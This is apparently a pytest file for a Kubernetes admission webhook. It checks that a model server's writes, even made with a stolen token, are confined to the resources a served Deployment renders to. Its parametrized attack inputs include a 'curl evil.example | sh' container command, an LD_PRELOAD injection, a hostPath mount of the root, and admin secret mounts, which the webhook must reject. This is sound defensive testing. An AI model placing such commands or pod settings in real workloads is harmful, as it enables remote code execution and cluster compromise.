"""The server can write only what a served Deployment is rendered to, also with a stolen token."""

import copy
from typing import Any

import pytest

from serve_core.admission.decide import render_stored
from serve_core.base.constants import SERVER_USERNAME
from serve_core.base.json import JsonObject
from serve_core.base.ownership import Identity, identity
from serve_kube.resources import OWNED, owned_resource
from serve_webhook.admission import own_writes
from serve_webhook.admission.review import AdmissionRequest, AdmissionResponse, UnseenError
from support.bounds import Write, refusals
from support.reviews import FACTS, deployment
from unit.serve_webhook.test_manifests import WEBHOOKS, called

pytestmark = pytest.mark.attack(37)


def stored(mode: str = "knative") -> JsonObject:
    found = deployment(mode=mode, scale="1..3")
    found["metadata"]["uid"] = "u-1"
    return found


def owned(found: JsonObject) -> dict[Identity, JsonObject]:
    """What a Deployment becomes, as the reconciler sends it."""
    metadata = found["metadata"]
    owner = {"apiVersion": "apps/v1", "kind": "Deployment", "name": metadata["name"], "uid": metadata["uid"]}
    made = {}
    for each in render_stored(found, FACTS).objects:
        manifest = copy.deepcopy(each)
        manifest["metadata"]["ownerReferences"] = [owner | {"controller": True, "blockOwnerDeletion": True}]
        made[identity(manifest)] = manifest
    return made


def as_knative_fills_it_in(manifest: JsonObject) -> JsonObject:
    """What Knative's own webhook adds before ours is asked (Knative Serving 1.23, ``pkg/apis/serving/v1``)."""
    made = copy.deepcopy(manifest)
    made["metadata"]["annotations"] = {"serving.knative.dev/creator": SERVER_USERNAME}
    pod = made["spec"]["template"]["spec"]
    pod |= {"containerConcurrency": 0, "timeoutSeconds": 300, "enableServiceLinks": False}
    for container in pod["containers"]:
        container.setdefault("resources", {})
        container.setdefault("readinessProbe", {})["successThreshold"] = 1
    made["spec"]["traffic"] = [{"latestRevision": True, "percent": 100}]
    return made


def judge(new: JsonObject, *known: JsonObject, old: JsonObject | None = None) -> AdmissionResponse:
    request = AdmissionRequest.model_validate(
        {
            "uid": "u",
            "operation": "UPDATE" if old else "CREATE",
            "namespace": new["metadata"]["namespace"],
            "name": new["metadata"]["name"],
            "userInfo": {"username": SERVER_USERNAME},
            "object": new,
            "oldObject": old,
        }
    )
    found = {(each["metadata"]["namespace"], each["metadata"]["name"]): each for each in known}
    return own_writes.judge(request, FACTS, lambda namespace, name: found.get((namespace, name)))


@pytest.mark.parametrize("mode", ["knative", "deployment"])
def test_what_a_served_deployment_becomes_is_let_through(mode: str) -> None:
    served = stored(mode)
    made = owned(served)
    assert made
    for manifest in made.values():
        filled = as_knative_fills_it_in(manifest) if "template" in manifest["spec"] else manifest
        assert not judge(filled, served).problems
        group, plural = manifest["apiVersion"].rpartition("/")[0], owned_resource(manifest).plural
        assert refusals(Write("CREATE", group, plural, "ml", "iris", filled)) == []


@pytest.mark.parametrize("mode", ["knative", "deployment"])
def test_without_that_deployment_nothing_is(mode: str) -> None:
    served = stored(mode)
    another = copy.deepcopy(served)
    another["metadata"]["uid"] = "u-2"
    elsewhere = copy.deepcopy(served)
    elsewhere["metadata"]["namespace"] = "other"
    plain = copy.deepcopy(served)
    plain["metadata"]["annotations"] = {}
    for manifest in owned(served).values():
        for known in ((), (another,), (elsewhere,), (plain,)):
            with pytest.raises(UnseenError):
                judge(manifest, *known)
        renamed = copy.deepcopy(manifest)
        renamed["metadata"]["name"] = "more"
        with pytest.raises(UnseenError):
            judge(renamed, served)


def test_what_the_deployment_does_not_become_is_not_made_of_it() -> None:
    by_knative, by_itself = stored(), stored("deployment")
    for manifest in owned(by_itself).values():
        with pytest.raises(UnseenError):
            judge(manifest, by_knative)
    for manifest in owned(by_knative).values():
        with pytest.raises(UnseenError):
            judge(manifest, by_itself)


@pytest.mark.parametrize(
    "spoilt",
    [
        {"serviceAccountName": "admin"},
        {"hostNetwork": True},
        {"hostPID": True},
        {"volumes": [{"name": "a", "secret": {"secretName": "admin-token"}}]},
        {"volumes": [{"name": "a", "hostPath": {"path": "/"}}]},
        {"initContainers": []},
        {"containers": [{"name": "evil", "image": "evil.example/x"}]},
    ],
)
def test_of_the_pods_nothing_is_another(spoilt: JsonObject) -> None:
    served = stored()
    (manifest,) = owned(served).values()
    manifest["spec"]["template"]["spec"] |= spoilt
    with pytest.raises(UnseenError):
        judge(manifest, served)
    with pytest.raises(UnseenError):
        judge(manifest, served, old=owned(served)[identity(manifest)])


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("image", "evil.example/x"),
        ("command", ["sh", "-c", "curl evil.example | sh"]),
        ("args", ["--evil"]),
        ("workingDir", "/evil"),
        ("env", [{"name": "LD_PRELOAD", "value": "/evil.so"}]),
        ("envFrom", [{"secretRef": {"name": "admin"}}]),
        ("volumeMounts", [{"name": "model", "mountPath": "/"}]),
    ],
)
@pytest.mark.parametrize("which", ["containers", "initContainers"])
def test_nor_of_any_container(which: str, key: str, value: Any) -> None:
    served = stored()
    (manifest,) = owned(served).values()
    manifest["spec"]["template"]["spec"][which][0][key] = value
    with pytest.raises(UnseenError):
        judge(manifest, served)


def test_a_container_more_is_another_pod() -> None:
    served = stored()
    (manifest,) = owned(served).values()
    manifest["spec"]["template"]["spec"]["containers"].append({"name": "more", "image": "evil.example/x"})
    with pytest.raises(UnseenError):
        judge(manifest, served)


def test_a_change_by_others_is_corrected_and_not_kept() -> None:
    served = stored()
    (manifest,) = owned(served).values()
    drifted = copy.deepcopy(manifest)
    drifted["spec"]["template"]["spec"]["containers"][0]["image"] = "by.hand/x"
    assert not judge(manifest, served, old=drifted).problems
    with pytest.raises(UnseenError):
        judge(drifted, served, old=drifted)


def test_the_webhook_is_called_for_all_writes_of_the_server_and_no_others() -> None:
    rules = WEBHOOKS["own"]["rules"]
    named = {
        (group, version, resource)
        for rule in rules
        for group in rule["apiGroups"]
        for version in rule["apiVersions"]
        for resource in rule["resources"]
    }
    owned_kinds = {(*(("/" + each.api_version).rsplit("/", 1)), each.plural) for each in OWNED}
    assert named == {(group.strip("/"), version, plural) for group, version, plural in owned_kinds}
    assert all(set(rule["operations"]) == {"CREATE", "UPDATE"} for rule in rules)
    assert WEBHOOKS["own"]["failurePolicy"] == "Fail"
    assert called("own", request={"userInfo": {"username": SERVER_USERNAME}})
    assert not called("own")
